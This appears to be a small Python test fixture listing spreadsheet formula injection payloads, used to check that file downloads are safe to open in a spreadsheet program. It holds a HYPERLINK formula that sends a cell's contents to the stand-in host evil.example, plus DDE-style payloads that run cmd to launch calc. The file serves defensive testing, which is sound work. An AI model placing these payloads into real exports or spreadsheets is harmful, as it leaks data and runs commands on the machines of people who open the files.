"""Formula injections a provider, an analyst or an administrator could type (OWASP CSV
injection), for the tests that every download is safe to open in a spreadsheet program."""

from __future__ import annotations

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
"""One text starting with each character that makes a spreadsheet program run a formula."""
